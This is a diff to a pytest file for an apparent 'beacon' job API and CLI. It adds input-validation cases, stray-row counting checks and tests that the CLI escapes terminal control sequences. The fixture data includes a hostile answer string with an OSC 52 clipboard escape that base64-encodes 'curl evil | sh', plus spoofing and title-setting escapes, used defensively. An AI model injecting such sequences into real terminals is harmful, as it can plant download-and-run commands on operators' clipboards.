@@ -3,17 +3,24 @@ rows are being inserted, and bad input (4xx with a message, never a 500)."""
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import json
+import re
 import time
 import uuid
+from datetime import UTC, datetime
 
 import httpx
 import psycopg
 import pytest
+from psycopg.types.json import Jsonb
 
 from beacon.settings import REPO_ROOT, Settings
+from schemas.commands import JobSpec
+from schemas.events import ProducerInfo
 from services.runner.providers.simulated import DEFLECTION
+from services.submitter.decide import job_submitted
 from tests.conftest import beacon
 from tests.harness import Services, wait_for_rows
 
@@ -29,6 +36,48 @@ def submit(settings: Settings, example: str, **overrides: object) -> str:
     result = beacon(settings, "submit", "-", stdin=json.dumps(spec).encode())
     assert result.returncode == 0, result.stderr.decode()
     return spec["job_id"]
+
+
+def cursor(value: object) -> str:
+    return cursor_bytes(json.dumps(value).encode())
+
+
+def cursor_bytes(raw: bytes) -> str:
+    return base64.urlsafe_b64encode(raw).decode()
+
+
+AT = "2026-11-27T10:00:00+00:00"
+COMMON_WRONG_CURSORS = [[1, 2], [], ["x"], [True], [None], [[1]], {"id": 1}, "x", 1, None, [10**30], [1.5]]
+WRONG_JOBS_CURSORS = [
+    *COMMON_WRONG_CURSORS,
+    [5],  # an executions cursor
+    [AT],
+    [AT, "job", "extra"],
+    ["2026-11-27T10:00:00", "job"],  # no time zone
+    ["not a time", "job"],
+    ["2026-13-45T99:00:00+00:00", "job"],
+    [AT, 7],
+    [AT, "has|pipe"],
+    [AT, "nul\u0000"],
+    [AT, "x" * 100],
+    ["9" * 1000, "job"],
+    [[AT], "job"],
+]
+WRONG_EXECUTIONS_CURSORS = [
+    *COMMON_WRONG_CURSORS,
+    [AT, "job"],  # a /jobs cursor
+    [-1],
+    [2**63],  # past bigint
+    ["5"],
+    [5, 6],
+    [False],
+    [[5]],
+]
+ODD_JOB_PATHS = [
+    f"/jobs/{job}{tail}"
+    for job in ("%00", "a%00b", "a%20b", "%E2%80%AE", "%FF", "a%7Cb", "-a", "x" * 65, "x" * 10_000, "%0A")
+    for tail in ("", "/executions", "/matrix", "/analysis", "/executions/us-east/mistral-7b/math_basic")
+]
 
 
 @pytest.fixture(scope="module")
@@ -208,6 +257,29 @@ def test_catalogue_health_metrics_portal(api: httpx.Client, full_job: str) -> No
         ("/jobs/{job}/executions/mars/mistral-7b/math_basic", 400, "region: unknown value 'mars'"),
         ("/jobs/{job}/executions/us-east/mistral-7b/no_such_question", 400, "question_id: unknown value"),
         ("/jobs/nope/executions/us-east/mistral-7b/math_basic", 404, "no job 'nope'"),
+        # Cursors that decode to JSON of the wrong shape (issue 9): each a 400 naming the cursor.
+        *((f"/jobs?cursor={cursor(v)}", 400, "cursor") for v in WRONG_JOBS_CURSORS),
+        *((f"/jobs/{{job}}/executions?cursor={cursor(v)}", 400, "cursor") for v in WRONG_EXECUTIONS_CURSORS),
+        ("/jobs?cursor=" + "A" * 5000, 400, "cursor"),
+        ("/jobs?cursor=%C3%A9%00", 400, "cursor"),
+        ("/jobs?cursor=" + cursor_bytes(b"[" * 150 + b"]" * 150), 400, "cursor"),
+        ("/jobs?cursor=" + cursor_bytes(b"\xff\xfe"), 400, "cursor"),
+        # Job ids no job can have: NUL, other odd bytes, megabytes. 400 naming job_id, before any query.
+        *((p, 400, "job_id") for p in ODD_JOB_PATHS),
+        # Filters and limits.
+        ("/jobs/{job}/executions?region=%00", 400, "region: unknown value"),
+        ("/jobs/{job}/executions?question_id=%00", 400, "question_id: unknown value"),
+        ("/jobs/{job}/executions?region=" + "x" * 100_00, 400, "region: unknown value 'xxxx"),
+        ("/jobs/{job}/executions?model_id=%E2%80%AE", 400, "model_id: unknown value"),
+        ("/jobs/{job}/executions?status=", 400, "status: unknown value ''"),
+        ("/jobs/{job}/executions?limit=-1", 400, "limit"),
+        ("/jobs/{job}/executions?limit=1001", 400, "limit"),
+        ("/jobs/{job}/executions?limit=" + "9" * 100, 400, "limit"),
+        ("/jobs/{job}/executions?limit=1e3", 400, "limit"),
+        ("/jobs/{job}/executions?limit=", 400, "limit"),
+        ("/jobs/{job}/executions/us-east/mistral-7b/%00", 400, "question_id: unknown value"),
+        ("/jobs/{job}/executions/%00/mistral-7b/math_basic", 400, "region: unknown value"),
+        ("/jobs/{job}/executions/us-east/" + "m" * 5000 + "/math_basic", 400, "model_id: unknown value"),
     ],
 )
 def test_bad_requests_get_a_message_never_a_500(
@@ -216,6 +288,7 @@ def test_bad_requests_get_a_message_never_a_500(
     response = api.get(path.replace("{job}", full_job))
     assert response.status_code == status
     assert message in response.text
+    assert len(response.content) < 2000  # whatever was sent, the answer is short
 
 
 def test_cli_reads_the_same_through_the_api_and_the_database(settings: Settings, full_job: str, api_port: int) -> None:
@@ -232,3 +305,157 @@ def test_cli_reads_the_same_through_the_api_and_the_database(settings: Settings,
     assert gone.returncode == 2 and "no job 'no-such-job'" in gone.stderr.decode()
     down = beacon(settings, "status", full_job, "--api", "http://127.0.0.1:9")
     assert down.returncode == 3 and "cannot reach the read API" in down.stderr.decode()
+
+
+# --- results for cells a job does not have (issue 9): shown as strays, never counted ------------------
+
+
+def seed_job(settings: Settings, job_id: str, spec: JobSpec, cells: list[tuple[str, str, str | None, str]]) -> None:
+    """A job projected as the recorder would, with the given (region, model, question, answer) rows."""
+    at = datetime.now(UTC)
+    event = job_submitted(
+        spec.model_copy(update={"job_id": job_id}),
+        now=at,
+        default_deadline_seconds=3600,
+        producer=ProducerInfo(service="test", instance="t"),
+    )
+    with psycopg.connect(settings.database_url) as conn:
+        conn.execute(
+            "INSERT INTO jobs (job_id, spec_sha256, expected_executions, submitted_at, deadline, spec, event_id)"
+            " VALUES (%s, %s, %s, %s, %s, %s, %s)",
+            (job_id, event.spec_sha256, event.expected_executions, at, event.deadline,
+             Jsonb(event.model_dump(mode="json")), event.event_id),
+        )  # fmt: skip
+        for region, model, question, answer in cells:
+            conn.execute(
+                "INSERT INTO executions (job_id, region, model_id, question_id, provider, status, classification,"
+                " classifier_version, answer, output, receipt, started_at, completed_at, event_id) VALUES"
+                " (%s, %s, %s, %s, 'simulated', 'completed', 'answered', 't', %s, '{}', '{}', now(), now(),"
+                " gen_random_uuid())",
+                (job_id, region, model, question, answer),
+            )
+
+
+TWO_CELLS = JobSpec(questions=["math_basic"], models=["mistral-7b"], regions=["us-east", "eu-west"])
+NO_QUESTIONS = JobSpec(questions=[], models=["mistral-7b"], regions=["us-east"])
+
+
+@pytest.fixture(scope="module")
+def stray_job(settings: Settings) -> str:
+    """Two cells, one recorded, and three results for cells the job does not have: before issue 9 it
+    counted 4 of 2 and showed `completed` with a real cell missing."""
+    job_id = f"stray-{uuid.uuid4().hex[:8]}"
+    seed_job(
+        settings,
+        job_id,
+        TWO_CELLS,
+        [
+            ("us-east", "mistral-7b", "math_basic", "4"),
+            ("asia-pacific", "mistral-7b", "math_basic", "a region it does not have"),
+            ("us-east", "llama3.2-1b", "math_basic", "a model it does not have"),
+            ("us-east", "mistral-7b", None, "the no-question cell of a job with questions"),
+        ],
+    )
+    return job_id
+
+
+def test_stray_results_are_shown_and_never_counted(api: httpx.Client, stray_job: str) -> None:
+    body = api.get(f"/jobs/{stray_job}").json()
+    assert (body["status"], body["expected"], body["recorded"], body["stray"]) == ("running", 2, 1, 3)
+    assert body["by_classification"] == {"answered": 1} and body["by_status"] == {"completed": 1}
+    listed = [j for j in api.get("/jobs", params={"limit": 1000}).json()["jobs"] if j["job_id"] == stray_job]
+    assert [(j["status"], j["recorded"], j["stray"]) for j in listed] == [("running", 1, 3)]
+    matrix = api.get(f"/jobs/{stray_job}/matrix").json()
+    assert [(c["region"], c["model_id"], c["question_id"]) for c in matrix["cells"]] == [
+        ("us-east", "mistral-7b", "math_basic")
+    ]
+    assert matrix["job"]["stray"] == 3
+    rates = api.get(f"/jobs/{stray_job}/analysis").json()["refusal_rate"]
+    assert set(rates["by_region"]) == {"us-east"} and rates["by_region"]["us-east"]["answered"] == 1
+    assert len(api.get(f"/jobs/{stray_job}/executions").json()["executions"]) == 4  # all recorded rows, listed
+
+
+def test_a_no_question_job_counts_only_its_null_question_cell(api: httpx.Client, settings: Settings) -> None:
+    job_id = f"stray-nq-{uuid.uuid4().hex[:8]}"
+    seed_job(
+        settings,
+        job_id,
+        NO_QUESTIONS,
+        [("us-east", "mistral-7b", None, "probe answer"), ("us-east", "mistral-7b", "math_basic", "stray")],
+    )
+    body = api.get(f"/jobs/{job_id}").json()
+    assert (body["status"], body["recorded"], body["stray"]) == ("completed", 1, 1)
+
+
+def test_a_job_filled_only_by_strays_is_not_completed(api: httpx.Client, settings: Settings) -> None:
+    job_id = f"stray-only-{uuid.uuid4().hex[:8]}"
+    strays = [
+        ("asia-pacific", "mistral-7b", "math_basic", "x"),
+        ("us-east", "qwen2.5-1.5b", "math_basic", "y"),
+        ("eu-west", "llama3.2-1b", "math_basic", "z"),
+    ]
+    seed_job(settings, job_id, TWO_CELLS, strays)
+    body = api.get(f"/jobs/{job_id}").json()
+    assert (body["status"], body["recorded"], body["stray"]) == ("pending", 0, 3)
+
+
+def test_cli_status_shows_strays_through_the_database_and_the_api(
+    settings: Settings, stray_job: str, api_port: int
+) -> None:
+    url = f"http://127.0.0.1:{api_port}"
+    for via in ([], ["--api", url]):
+        text = beacon(settings, "status", stray_job, *via).stdout.decode()
+        assert f"job {stray_job}: running" in text and "expected 2, recorded 1" in text
+        assert "stray: 3 result(s) for cells that are not in the job's spec" in text
+        as_json = json.loads(beacon(settings, "status", stray_job, "--json", *via).stdout)
+        assert (as_json["recorded"], as_json["stray"], as_json["status"]) == (1, 3, "running")
+    listed = beacon(settings, "executions", stray_job).stdout.decode().splitlines()
+    assert len(listed) == 4 and sum("[stray: not a cell of the job's spec]" in line for line in listed) == 3
+
+
+# --- what reaches the operator's terminal (issue 9) -----------------------------------------------------
+
+CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+HOSTILE_ANSWER = "4 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b[2J\x9b31m \u202etxt.exe\r\t\x7f"
+
+
+@pytest.fixture(scope="module")
+def hostile_job(settings: Settings) -> str:
+    job_id = f"hostile-{uuid.uuid4().hex[:8]}"
+    seed_job(settings, job_id, TWO_CELLS, [("us-east", "mistral-7b", "math_basic", HOSTILE_ANSWER)])
+    with psycopg.connect(settings.database_url) as conn:  # a display name and a class from a hostile producer
+        conn.execute(
+            "UPDATE jobs SET spec = jsonb_set(spec, '{regions,0,display}', to_jsonb(%s::text)) WHERE job_id = %s",
+            ("\x1b[31mUS\u202e", job_id),
+        )
+        conn.execute("UPDATE executions SET provider = %s WHERE job_id = %s", ("sim\x1b]0;owned\x07", job_id))
+    return job_id
+
+
+def test_cli_escapes_answers_ids_and_names(settings: Settings, hostile_job: str, api_port: int) -> None:
+    url = f"http://127.0.0.1:{api_port}"
+    outputs = {
+        "executions": beacon(settings, "executions", hostile_job),
+        "matrix": beacon(settings, "matrix", hostile_job),
+        "matrix --api": beacon(settings, "matrix", hostile_job, "--api", url),
+        "status": beacon(settings, "status", hostile_job),
+        "executions --json": beacon(settings, "executions", hostile_job, "--json"),
+    }
+    for name, result in outputs.items():
+        assert result.returncode == 0, (name, result.stderr)
+        text = result.stdout.decode()
+        assert not CONTROL.search(text), (name, text)
+    shown = outputs["executions"].stdout.decode()
+    assert "4 \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\x1b[2J\\x9b31m \\u202etxt.exe\\r\\t\\x7f" in shown
+    assert "sim\\x1b]0;owned\\x07" in shown
+    assert "\\x1b[31mUS\\u202e" in outputs["matrix"].stdout.decode()
+    assert outputs["matrix"].stdout == outputs["matrix --api"].stdout
+    [row] = json.loads(outputs["executions --json"].stdout)
+    assert row["answer"] == HOSTILE_ANSWER  # --json: escaped for the terminal, the same value for a program
+
+
+def test_cli_escapes_error_texts(settings: Settings) -> None:
+    result = beacon(settings, "status", "no\x1b]52;c;eA==\x07job")
+    assert result.returncode == 2
+    err = result.stderr.decode()
+    assert not CONTROL.search(err) and "\\x1b]52;c;eA==\\x07" in err
